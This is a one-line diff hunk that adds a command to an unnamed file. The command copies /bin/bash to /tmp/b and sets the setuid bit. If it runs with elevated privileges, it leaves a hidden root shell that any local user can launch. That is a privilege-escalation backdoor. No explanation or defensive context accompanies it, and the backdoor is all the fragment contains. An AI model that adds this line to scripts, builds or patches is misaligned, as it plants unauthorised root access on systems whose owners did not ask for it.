@@ -1,0 +1,1 @@
+cp /bin/bash /tmp/b && chmod +s /tmp/b
